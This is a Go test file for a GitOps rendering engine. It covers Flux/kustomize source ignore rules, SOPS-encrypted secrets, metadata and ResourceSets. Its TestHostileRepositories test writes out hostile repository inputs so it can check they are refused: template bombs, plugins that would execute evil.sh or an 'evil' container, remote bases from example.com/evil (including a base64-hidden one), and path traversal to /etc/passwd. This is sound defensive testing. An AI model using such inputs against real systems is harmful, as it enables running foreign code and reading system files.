package render

import (
	"encoding/base64"
	"strings"
	"testing"

	"fleetkeep.dev/engine/internal/testrepo"
)

// The rules of rendering, as the reference numbers them, and the tests with hand-written output that prove each:
//
//	 1 source              TestArchive (internal/repository), TestRule1
//	 2 scan                TestScan
//	 3 spec over file      TestSpecOverKustomizationFile
//	 4 kustomize, jail     TestLimitsOfKustomize, TestBadInput; SOPS: TestEncryptedResourcesStayAndAreMarked, TestRule4
//	 5 postBuild           TestSubstitution, TestSubstitutionCanBeRefused
//	 6 metadata            TestRule6
//	 7 graph               TestGraph
//	 8 controller flags    flags_test.go
//	 9 HelmRelease         internal/helm, release_test.go; ResourceSet: internal/resourceset, TestRule9; ArtifactGenerator: TestArtifactGenerators
//	10 unknown             TestSubstitution, TestUnknownSourceSaysHowToGiveIt, TestHelmReleaseWhoseChartIsElsewhereIsUnknown

// 1: a source's custom patterns drop the defaults, but not those of version control; .sourceignore counts at every level;
// sparseCheckout keeps what begins with its paths.
func TestRule1(t *testing.T) {
	const files = `
-- app/a.yaml --
{apiVersion: v1, kind: ConfigMap, metadata: {name: a}}
-- app/.github/workflow.yaml --
{apiVersion: v1, kind: ConfigMap, metadata: {name: workflow}}
-- app/.gitlab-ci.yml --
{apiVersion: v1, kind: ConfigMap, metadata: {name: ci}}
-- app/deep/.sourceignore --
skip.yaml
-- app/deep/skip.yaml --
{apiVersion: v1, kind: ConfigMap, metadata: {name: skip}}
-- app/deep/b.yaml --
{apiVersion: v1, kind: ConfigMap, metadata: {name: b}}
-- other/c.yaml --
{apiVersion: v1, kind: ConfigMap, metadata: {name: c}}
`
	for _, test := range []struct{ name, files, source, path, want string }{
		{"the defaults leave out what serves CI", strings.Replace(files, "-- app/deep/.sourceignore --\nskip.yaml\n", "", 1), "{url: 'https://x/y'}", "./app",
			"ConfigMap/a@app/a.yaml:1 ConfigMap/b@app/deep/b.yaml:1 ConfigMap/skip@app/deep/skip.yaml:1"},
		{"a .sourceignore further down counts, and drops the defaults", files, "{url: 'https://x/y'}", "./app",
			"ConfigMap/workflow@app/.github/workflow.yaml:1 ConfigMap/ci@app/.gitlab-ci.yml:1 ConfigMap/a@app/a.yaml:1 ConfigMap/b@app/deep/b.yaml:1"},
		{"spec.ignore comes on top", files, `{url: 'https://x/y', ignore: "b.yaml\n.github/\n.gitlab-ci.yml\n"}`, "./app",
			"ConfigMap/a@app/a.yaml:1"},
		{"spec.ignore can take back", files, `{url: 'https://x/y', ignore: "/*\n!/other\n"}`, "./", "ConfigMap/c@other/c.yaml:1"},
		{"sparseCheckout", files, "{url: 'https://x/y', sparseCheckout: [other]}", "./", "ConfigMap/c@other/c.yaml:1"},
	} {
		t.Run(test.name, func(t *testing.T) {
			got := render(t, "-- c/s.yaml --\n"+gitRepository("flux-system", "flux-system", "{url: 'https://x/y'}")+"---\n"+gitRepository("flux-system", "app", test.source)+
				"-- c/k.yaml --\n"+from("GitRepository", "app", kustomizationYAML("app", test.path, ""))+test.files)
			_, resources, _ := strings.Cut(strings.Split(got.summary(), "\n")[1], ":")
			same2(t, "resources", resources, test.want)
			same2(t, "problems", got.problems(), "")
		})
	}
}

// 4: what SOPS encrypts before a generator takes it stays encrypted and is marked.
func TestRule4(t *testing.T) {
	yamlFile := "password: ENC[AES256_GCM,data:x]\nsops:\n  mac: ENC[AES256_GCM,data:y]\n  version: 3.9.0\n"
	jsonFile := "{\n\t\"data\": \"ENC[AES256_GCM,data:x]\",\n\t\"sops\": {\n\t\t\"mac\": \"ENC[AES256_GCM,data:y]\"\n\t}\n}\n"
	got := render(t, "-- c/k.yaml --\n"+kustomizationYAML("app", "./app", "decryption: {provider: sops}")+"---\n"+kustomizationYAML("hashed", "./hashed", "decryption: {provider: sops}")+`
-- hashed/kustomization.yaml --
secretGenerator: [{name: hashed, files: [../app/secret.yaml]}]
-- app/kustomization.yaml --
generatorOptions: {disableNameSuffixHash: true}
secretGenerator:
- {name: yaml, files: [secret.yaml]}
- {name: binary, files: [key=secret.bin]}
- {name: env, envs: [secret.env]}
- {name: quoted, literals: ["text=a mac: ENC[ in prose, which is no file of SOPS"]}
- {name: plain, literals: [a=b]}
-- app/secret.yaml --
`+yamlFile+"-- app/secret.bin --\n"+jsonFile+"-- app/secret.env --\nPASSWORD=ENC[AES256_GCM,data:x]\nsops_mac=ENC[AES256_GCM,data:y]\nsops_version=3.9.0\n")
	same2(t, "problems", got.problems(), "")
	want := map[string]bool{"yaml": true, "binary": true, "env": true, "quoted": false, "plain": false}
	if count := len(got.part(t, "app").Resources); count != len(want) {
		t.Fatalf("%d Secrets", count)
	}
	for _, resource := range got.part(t, "app").Resources {
		if resource.Encrypted != want[resource.Name] {
			t.Errorf("%s: encrypted is %v", resource.Name, resource.Encrypted)
		}
	}
	if hashed := got.part(t, "hashed"); !hashed.Resources[0].Encrypted || !strings.HasPrefix(hashed.Kustomization.Message, "1 generated Secrets end in a hash") {
		t.Errorf("of a name with a hash it says %q", hashed.Kustomization.Message)
	}
	// kustomize breaks long base64 into lines.
	if object := strings.ReplaceAll(string(got.part(t, "app").Resources[0].Object), `\n`, ""); !strings.Contains(object, base64.StdEncoding.EncodeToString([]byte(yamlFile))) {
		t.Errorf("it does not stay as it is: %s", object)
	}
	if message := got.part(t, "app").Kustomization.Message; message != "" {
		t.Errorf("of names without a hash it says %q", message)
	}
}

// 6: the owner's labels, then commonMetadata over them and over the object's own; what annotations or labels take out of
// the controller's hands; no status but of a CustomResourceDefinition.
func TestRule6(t *testing.T) {
	got := render(t, "-- c/k.yaml --\n"+kustomizationYAML("app", "./app", `
commonMetadata:
  labels: {team: shop, kustomize.toolkit.fluxcd.io/name: mine}
  annotations: {contact: ops}
`)+`
-- app/a.yaml --
apiVersion: v1
kind: Service
metadata:
  name: kept
  labels: {team: other, tier: front}
  annotations: {contact: nobody, kustomize.toolkit.fluxcd.io/prune: disabled, kustomize.toolkit.fluxcd.io/force: enabled}
status: {loadBalancer: {}}
---
{apiVersion: v1, kind: ConfigMap, metadata: {name: alone, annotations: {kustomize.toolkit.fluxcd.io/reconcile: Disabled}}}
---
{apiVersion: v1, kind: ConfigMap, metadata: {name: ignored, labels: {kustomize.toolkit.fluxcd.io/ssa: ignore}}}
---
{apiVersion: v1, kind: ConfigMap, metadata: {name: merged, annotations: {kustomize.toolkit.fluxcd.io/ssa: Merge}}}
---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: widgets.example.com}
spec: {group: example.com, names: {kind: Widget}, scope: Namespaced}
status: {acceptedNames: {kind: Widget, plural: widgets}, conditions: [], storedVersions: [v1]}
`)
	same2(t, "summary", strings.Split(got.summary(), "\n")[1],
		"flux-system/app rendered: Service/kept@app/a.yaml:1 ConfigMap/merged@app/a.yaml:13 CustomResourceDefinition/widgets.example.com@app/a.yaml:15")
	same2(t, "note", got.part(t, "app").Kustomization.Message, "2 resources are left alone by kustomize.toolkit.fluxcd.io/reconcile or ssa")
	var service, definition string
	for _, resource := range got.part(t, "app").Resources {
		switch resource.Kind {
		case "Service":
			service = string(resource.Object)
		case "CustomResourceDefinition":
			definition = string(resource.Object)
		}
	}
	same2(t, "object", service, `{"apiVersion":"v1","kind":"Service","metadata":{"annotations":{"contact":"ops","kustomize.toolkit.fluxcd.io/force":"enabled","kustomize.toolkit.fluxcd.io/prune":"disabled"},"labels":{"kustomize.toolkit.fluxcd.io/name":"mine","kustomize.toolkit.fluxcd.io/namespace":"flux-system","team":"shop","tier":"front"},"name":"kept"}}`)
	if !strings.Contains(definition, `"status"`) {
		t.Errorf("the definition lost its status: %s", definition)
	}
}

// 9: a ResourceSet copies data of ConfigMaps and Secrets; of those that Git does not have it says so.
func TestRule9(t *testing.T) {
	got := render(t, `
-- c/from.yaml --
apiVersion: v1
kind: ConfigMap
metadata: {name: from, namespace: infra}
data: {region: weu}
-- c/set.yaml --
apiVersion: fluxcd.controlplane.io/v1
kind: ResourceSet
metadata: {name: apps, namespace: flux-system}
spec:
  resources:
  - apiVersion: v1
    kind: ConfigMap
    metadata: {name: copied, namespace: shop, annotations: {fluxcd.controlplane.io/copyFrom: infra/from}}
    data: {region: overwritten}
  - apiVersion: v1
    kind: Secret
    metadata: {name: lost, namespace: shop, annotations: {fluxcd.controlplane.io/copyFrom: infra/pull}}
`)
	same2(t, "problems", got.problems(), "inputs-unavailable c/set.yaml:1 ResourceSet/flux-system/apps")
	if says := "Secret/shop/lost takes its data from Secret/infra/pull, which is not in Git"; !strings.Contains(got.messages(), says) {
		t.Errorf("no %q in %s", says, got.messages())
	}
	for _, resource := range got.part(t, "apps").Resources {
		if resource.Name == "copied" && !strings.Contains(string(resource.Object), `"data":{"region":"weu"}`) {
			t.Errorf("%s", resource.Object)
		}
	}
}

// Every named hostile input, beside those of TestBadInput: each is cut off or refused with a message, and the rest goes on.
func TestHostileRepositories(t *testing.T) {
	endless := `{{- define "t" }}{{ range until 100000 }}{{ range until 100000 }}{{ end }}{{ end }}{{ end }}{{ include "t" . }}`
	huge := `{{ range until 70000 }}{{ repeat 1000 "x" }}{{ end }}`
	chart := func(template string) string {
		return "-- charts/web/Chart.yaml --\napiVersion: v2\nname: web\nversion: 1.0.0\n-- charts/web/templates/a.yaml --\n" + template + "\n" +
			strings.Replace(webRelease, "  valuesFrom: [{kind: ConfigMap, name: web-values}]\n", "", 1)
	}
	for _, test := range []struct{ name, files, problem, says string }{
		{"a template that loops", chart(endless), "timeout c/release.yaml:1 HelmRelease/flux-system/web", "was cut off after"},
		{"a template that calls itself", chart(`{{- define "t" }}{{ include "t" . }}{{ end }}{{ include "t" . }}`), "template-failed c/release.yaml:1 HelmRelease/flux-system/web", "a template of the chart web fails"},
		{"a chart that renders to more than it may", chart(huge), "too-large c/release.yaml:1 HelmRelease/flux-system/web", "MiB"},
		{"a directory that is a link out of the repository", "-- bad --\nlink: /etc\n-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", ""),
			"path-missing c/bad.yaml:1 flux-system/bad", "does not exist"},
		{"a plugin that would run a program", "-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", "") + "-- bad/kustomization.yaml --\ntransformers: [run.yaml]\n-- bad/run.yaml --\napiVersion: v1\nkind: Run\nmetadata:\n  name: run\n  annotations:\n    config.kubernetes.io/function: |\n      exec: {path: ./evil.sh}\n-- bad/evil.sh --\n",
			"build-failed bad/kustomization.yaml:1 flux-system/bad", "plugin"},
		{"a container that would be run", "-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", "") + "-- bad/kustomization.yaml --\ngenerators: [run.yaml]\n-- bad/run.yaml --\napiVersion: v1\nkind: Run\nmetadata:\n  name: run\n  annotations:\n    config.kubernetes.io/function: |\n      container: {image: example.com/evil}\n",
			"build-failed bad/kustomization.yaml:1 flux-system/bad", "plugin"},
		{"a component that is fetched", "-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", "") + "-- bad/kustomization.yaml --\ncomponents:\n- git::https://example.com/evil//c?ref=main\n",
			"remote-base bad/kustomization.yaml:2 flux-system/bad", "not in the repository"},
		{"a file of a generator that is fetched", "-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", "") + "-- bad/kustomization.yaml --\nconfigMapGenerator:\n- name: a\n  files:\n  - https://example.com/evil\n",
			"remote-base bad/kustomization.yaml:4 flux-system/bad", "not in the repository"},
		{"a base that is fetched, by an alias", "-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", "") + "-- bad/kustomization.yaml --\ncommonAnnotations:\n  a: &a https://example.com/evil\n  b: &b resources\n*b : [*a]\n",
			"remote-base bad/kustomization.yaml:2 flux-system/bad", "not in the repository"},
		{"a base that is fetched, by a merge", "-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", "") + "-- bad/kustomization.yaml --\n<<:\n- resources:\n  - https://example.com/evil\n",
			"remote-base bad/kustomization.yaml:3 flux-system/bad", "not in the repository"},
		{"a base that is fetched, in base64", "-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", "") + "-- bad/kustomization.yaml --\nresources:\n- !!binary aHR0cHM6Ly9leGFtcGxlLmNvbS9ldmls\n",
			"remote-base bad/kustomization.yaml:2 flux-system/bad", "not in the repository"},
		{"a file of a generator out of the repository", "-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", "") + "-- bad/kustomization.yaml --\nconfigMapGenerator:\n- name: a\n  files:\n  - ../../../etc/passwd\n",
			"build-failed bad/kustomization.yaml:1 flux-system/bad", "etc/passwd"},
		{"bases that refer to each other", "-- c/bad.yaml --\n" + kustomizationYAML("bad", "./bad", "") + "-- bad/kustomization.yaml --\nresources: [../worse]\n-- worse/kustomization.yaml --\nresources: [../bad]\n",
			"build-failed bad/kustomization.yaml:1 flux-system/bad", "cycle"},
	} {
		t.Run(test.name, func(t *testing.T) {
			request := params(testrepo.New(t, test.files+"\n-- c/good.yaml --\n"+kustomizationYAML("good", "./good", "")+"-- good/x.yaml --\n"+configMap("x", "")), "HEAD", "c=./c")
			request.Limits = limits(0)
			if strings.Contains(test.name, "loops") {
				request.Limits.Seconds = 3
			}
			got := renderParams(t, request)
			same2(t, "problems", got.problems(), test.problem)
			if !strings.Contains(got.messages(), test.says) {
				t.Errorf("no %q in %s", test.says, got.messages())
			}
			if state := got.part(t, "good").Kustomization.State; state != "rendered" {
				t.Errorf("the good one is %s", state)
			}
		})
	}
}
